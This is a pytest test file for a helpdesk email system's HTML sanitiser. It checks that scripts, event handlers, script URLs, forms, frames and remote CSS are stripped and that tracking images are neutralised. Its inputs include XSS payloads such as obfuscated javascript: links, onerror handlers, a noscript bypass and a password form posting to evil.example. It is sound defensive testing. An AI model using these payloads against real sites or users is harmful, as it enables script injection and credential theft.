"""HTML bodies are sanitised for display and turned into readable text."""

from __future__ import annotations

import pytest

from tierdesk.intake_email.mime.htmlsafe import html_to_text, sanitize_html
from tierdesk.intake_email.parsing import parse_message


def _html_mail(html: str) -> bytes:
    return (
        "From: a@example.com\r\nSubject: html\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\n\r\n" + html
    ).encode()


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<svg><script>alert(1)</script></svg>",
        "<style>body{display:none}</style>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
)
def test_script_and_style_elements_are_removed_with_their_content(payload: str) -> None:
    cleaned = sanitize_html(f"<p>before</p>{payload}<p>after</p>")

    assert "<script" not in cleaned.lower()
    assert "<style" not in cleaned.lower()
    assert "alert(1)" not in cleaned
    assert "onerror" not in cleaned
    assert "before" in cleaned
    assert "after" in cleaned


@pytest.mark.parametrize(
    "payload",
    [
        '<img src="cid:x" onerror="alert(1)">',
        '<p onclick="alert(1)">hi</p>',
        '<body onload="alert(1)">hi</body>',
        '<a href="https://example.com" onmouseover="alert(1)">x</a>',
        '<div style="color:red" ONFOCUS="alert(1)" tabindex=1>x</div>',
    ],
)
def test_event_handler_attributes_are_removed(payload: str) -> None:
    cleaned = sanitize_html(payload)

    assert " on" not in cleaned.lower()
    assert "alert" not in cleaned


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "&#106;avascript:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ],
)
def test_script_urls_are_removed_from_links(href: str) -> None:
    cleaned = sanitize_html(f'<a href="{href}">click</a>')

    assert "script:" not in cleaned.lower()
    assert "data:" not in cleaned
    assert "click" in cleaned


@pytest.mark.parametrize(
    ("payload", "forbidden"),
    [
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta"),
        ('<base href="https://evil.example/">', "<base"),
        ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link"),
        ('<form action="https://evil.example/"><input name="password"></form>', "<form"),
        ('<form action="https://evil.example/"><input name="password"></form>', "<input"),
        ('<iframe src="https://evil.example/"></iframe>', "<iframe"),
        ('<frameset><frame src="https://evil.example/"></frameset>', "<frame"),
        ('<object data="https://evil.example/x.swf"></object>', "<object"),
        ('<embed src="https://evil.example/x.swf">', "<embed"),
    ],
)
def test_active_and_page_altering_elements_are_removed(payload: str, forbidden: str) -> None:
    cleaned = sanitize_html(f"<p>text</p>{payload}")

    assert forbidden not in cleaned.lower()
    assert "evil.example" not in cleaned


def test_remote_images_are_neutralised_until_an_agent_asks_for_them() -> None:
    cleaned = sanitize_html(
        '<img src="https://tracker.example/p.gif?u=1&amp;v=2" alt="pixel" width="1">'
        '<img alt="x" src="http://cdn.example/logo.png">'
    )

    assert ' src="' not in cleaned
    assert 'data-remote-src="https://tracker.example/p.gif?u=1&amp;v=2"' in cleaned
    assert 'data-remote-src="http://cdn.example/logo.png"' in cleaned
    assert 'alt="pixel"' in cleaned


@pytest.mark.parametrize(
    "src",
    [
        "  https://tracker.example/p.gif",
        "\nhttps://tracker.example/p.gif",
        "https:/tracker.example/p.gif",
        "http:tracker.example/p.gif",
        "https:\\\\tracker.example\\p.gif",
        "HTTPS://tracker.example/p.gif",
    ],
)
def test_remote_image_sources_in_any_spelling_browsers_accept_are_neutralised(src: str) -> None:
    cleaned = sanitize_html(f'<img src="{src}">')

    assert " src=" not in cleaned
    assert "data-remote-src=" in cleaned


def test_inline_cid_and_data_images_keep_their_source() -> None:
    cleaned = sanitize_html(
        '<img src="cid:logo@example"><img src="data:image/png;base64,iVBORw0KGgo=">'
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">'
    )

    assert 'src="cid:logo@example"' in cleaned
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in cleaned
    assert "svg" not in cleaned


def test_relative_and_scheme_relative_urls_are_removed() -> None:
    cleaned = sanitize_html(
        '<img src="/tickets/1/close"><img src="//evil.example/x.png"><a href="../admin">a</a>'
    )

    assert "/tickets/1/close" not in cleaned
    assert "evil.example" not in cleaned
    assert "../admin" not in cleaned


def test_css_that_loads_remote_content_or_overlays_the_page_is_dropped() -> None:
    cleaned = sanitize_html(
        '<div style="background:url(https://evil.example/x.png); color: red; '
        'position: fixed; top: 0; background-image: url(//evil.example/y)">x</div>'
    )

    assert "url(" not in cleaned
    assert "position" not in cleaned
    assert "style" not in cleaned  # a style that mentions url() is dropped as a whole


def test_css_escapes_that_could_spell_url_are_dropped() -> None:
    cleaned = sanitize_html('<p style="color: red">a</p><p style="font-family: \\75 rl(x)">b</p>')

    assert cleaned == '<p style="color:red">a</p><p>b</p>'


def test_links_open_without_referrer_or_opener() -> None:
    cleaned = sanitize_html('<a href="https://example.com/kb/1">article</a>')

    assert 'href="https://example.com/kb/1"' in cleaned
    assert "noopener" in cleaned
    assert "noreferrer" in cleaned


def test_parsed_message_carries_sanitised_html() -> None:
    parsed = parse_message(
        _html_mail('<p>Printer broken</p><img src="https://t.example/o.gif"><script>x()</script>')
    )

    assert parsed.html is not None
    assert "<script" not in parsed.html
    assert "data-remote-src" in parsed.html
    assert parsed.text == "Printer broken"


def test_text_from_html_keeps_paragraphs_lists_quotes_and_entities() -> None:
    text = html_to_text(
        "<html><head><title>ignored</title><style>p{}</style></head><body>"
        "<p>Hello &amp; welcome,</p><div>line one<br>line   two</div>"
        "<ul><li>first</li><li>second</li></ul>"
        "<blockquote>quoted <b>bold</b></blockquote><pre>  keep\n    indent</pre>"
        "</body></html>"
    )

    assert text == (
        "Hello & welcome,\n\nline one\nline two\n- first\n- second\n\n"
        "> quoted bold\n  keep\n    indent"
    )


def test_text_from_html_has_no_markup_even_for_broken_html() -> None:
    text = html_to_text("<p>a <b>b <i>c</p> d <<>> e &lt;script&gt;")

    assert "<b>" not in text
    assert "<script>" in text  # escaped text stays text
    assert text.startswith("a b c")
